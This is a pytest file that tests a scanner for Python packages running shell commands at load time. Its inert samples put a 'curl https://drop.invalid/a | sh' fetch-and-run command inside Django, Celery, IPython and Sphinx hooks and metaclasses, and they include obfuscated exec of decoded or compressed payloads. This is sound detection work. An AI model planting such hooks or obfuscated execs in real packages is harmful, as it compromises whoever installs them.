"""What frameworks, notebooks and workers call of a package that they load. All of it is inert text."""

from __future__ import annotations

import bz2
import lzma
import zlib

import pytest

from adapters.sigil.local.code.facts import Behaviour
from adapters.sigil.local.code.python import python_facts

_RUN = "os.system('curl https://drop.invalid/a | sh')"
_DJANGO = "import os\nfrom django.apps import AppConfig\n"
_CALLED = {
    "an application's start": f"{_DJANGO}class A(AppConfig):\n    def ready(self):\n        {_RUN}",
    "that of a class of such a class": (
        f"{_DJANGO}class A(AppConfig):\n    pass\nclass B(A):\n    def ready(self):\n        {_RUN}"
    ),
    "by the module's name": (
        f"import os\nfrom django import apps\nclass A(apps.AppConfig):\n    def ready(self):\n        {_RUN}"
    ),
    "led to by another": (
        f"{_DJANGO}def warm():\n    {_RUN}\nclass A(AppConfig):\n    def ready(self):\n        warm()\n"
    ),
    "an extension taken up": f"import os\nclass A:\n    def init_app(self, app):\n        {_RUN}",
    "a notebook's extension": f"import os\ndef load_ipython_extension(ipython):\n    {_RUN}",
    "an extension of documents": f"import os\ndef setup(app):\n    {_RUN}",
    "a layer around requests": f"import os\nclass A:\n    def __init__(self, get_response):\n        {_RUN}",
    "a linter's plugin": f"import os\ndef register(linter):\n    {_RUN}",
    "an object told its name": (
        f"import os\nclass A:\n    def __set_name__(self, owner, name):\n        {_RUN}\nclass B:\n    key = A()"
    ),
    "a plugin": f"import os, airflow\nclass A(airflow.AirflowPlugin):\n    def on_load(cls):\n        {_RUN}",
    "a worker's start": (
        f"import os\nfrom celery.signals import worker_init\n@worker_init.connect\ndef go(**rest):\n    {_RUN}"
    ),
    "a worker's start, connected": (
        f"import os\nfrom celery import signals\ndef go(**rest):\n    {_RUN}\nsignals.worker_ready.connect(go)"
    ),
}
_NOT_CALLED = {
    "another method": f"{_DJANGO}class A(AppConfig):\n    def steady(self):\n        {_RUN}",
    "another class": f"import os\nclass A:\n    def ready(self):\n        {_RUN}",
    "a layer of something else": f"import os\nclass A:\n    def __init__(self, handler):\n        {_RUN}",
    "another register": f"import os\ndef register(name):\n    {_RUN}",
    "an object that is told no name": (
        f"import os\nclass A:\n    def set_name(self, owner, name):\n        {_RUN}\nclass B:\n    key = A()"
    ),
    "another setup": f"import os\ndef setup(path):\n    {_RUN}",
    "a task": f"import os\nfrom celery.signals import task_failure\n@task_failure.connect\ndef go(**rest):\n    {_RUN}",
}


@pytest.mark.parametrize(
    ("code", "loads"), [(code, True) for code in _CALLED.values()] + [(code, False) for code in _NOT_CALLED.values()]
)
def test_what_the_loading_program_calls(code: str, loads: bool) -> None:
    """What a framework calls at its start happens at load, though nothing in the package calls it."""
    facts = python_facts("package/apps.py", code.encode()).facts
    assert [fact.at_load for fact in facts if fact.behaviour is Behaviour.RUNS_SHELL] == [loads]


_SUBCLASS = "class A:\n    text = ''\n    def __init_subclass__(cls, **rest):\n        exec(cls.text)\n"
_META = "class M(type):\n    def __init__(cls, name, bases, names):\n        exec(names['text'])\n"
_MADE = {
    "a subclass's own": f"{_SUBCLASS}class B(A):\n    text = 'import os; {{0}}'\n",
    "given by name": (
        "class A:\n    def __init_subclass__(cls, text='', **rest):\n        exec(text)\n"
        "class B(A, text='import os; {0}'):\n    pass\n"
    ),
    "handed to a metaclass": f"{_META}class B(metaclass=M):\n    text = 'import os; {{0}}'\n",
    "a parent's metaclass": (
        f"{_META}class B(metaclass=M):\n    text = ''\nclass C(B):\n    text = 'import os; {{0}}'\n"
    ),
}


@pytest.mark.parametrize("code", _MADE.values(), ids=_MADE)
def test_what_classes_hand_to_those_that_make_them(code: str) -> None:
    """Who makes a class is handed what its body binds and what it is made with."""
    command = 'os.system("curl https://drop.invalid/a | sh")'
    facts = python_facts("package/__init__.py", code.format(command).encode()).facts
    assert any(fact.behaviour is Behaviour.RUNS_SHELL and fact.at_load for fact in facts)


_DECODED = "base64.b64decode(text)"
_PICKED = {
    "by a test": "[f for n, f in vars(builtins).items() if len(n) == 4 and n[1] == 'x'][0]({0})",
    "the next": "next(f for n, f in builtins.__dict__.items() if hash(n) == key)({0})",
    "of the values": "next(filter(lambda f: f.__name__[::-1] == key, vars(builtins).values()))({0})",
    "by a sum": "{{sum(map(ord, n)): f for n, f in vars(builtins).items()}}[421]({0})",
    "of the members": "[m for _, m in inspect.getmembers(builtins) if key(m)][0]({0})",
    "by its name of all": "next(getattr(builtins, n) for n in dir(builtins) if sum(map(ord, n)) == 421)({0})",
    "the least": "max(vars(builtins).values(), key=key)({0})",
    "of a copy": "[f for n, f in dict(vars(builtins)).items() if key(n)].pop()({0})",
    "in a loop": "for n, f in vars(builtins).items():\n    if sum(map(ord, n)) == key:\n        f({0})",
    "of the system": "[f for n, f in vars(os).items() if key(n)][0]({0})",
}
_RUNNING = frozenset({Behaviour.RUNS_CODE, Behaviour.RUNS_SHELL})


@pytest.mark.parametrize("code", _PICKED.values(), ids=_PICKED)
@pytest.mark.parametrize(("given", "runs"), [(_DECODED, True), ("text", False)])
def test_runners_picked_by_a_test(code: str, given: str, runs: bool) -> None:
    """A function of the language picked by a test runs what was decoded; with other data nothing is said of it."""
    source = f"import base64, builtins, inspect, os\n{code.format(given)}\n"
    facts = python_facts("package/__init__.py", source.encode())
    found = {(flow.source.behaviour, flow.sink.behaviour) for flow in facts.flows}
    assert any(source is Behaviour.DECODES and sink in _RUNNING for source, sink in found) is runs
    assert any(fact.behaviour in _RUNNING for fact in facts.facts) is runs


_PAYLOAD = b"import os\nos.system('curl https://drop.invalid/a | sh')"
_UNPACKED = {
    "zlib.decompressobj()": zlib.compress(_PAYLOAD),
    "bz2.BZ2Decompressor()": bz2.compress(_PAYLOAD),
    "lzma.LZMADecompressor()": lzma.compress(_PAYLOAD),
}


@pytest.mark.parametrize(("unpacker", "packed"), _UNPACKED.items(), ids=_UNPACKED)
def test_what_unpackers_give(unpacker: str, packed: bytes) -> None:
    """What an unpacking object gives of a constant is gone through like any other."""
    code = f"import bz2, lzma, zlib\nexec({unpacker}.decompress(bytes.fromhex('{packed.hex()}')))"
    facts = python_facts("package/__init__.py", code.encode()).facts
    assert any(fact.behaviour is Behaviour.RUNS_SHELL for fact in facts)
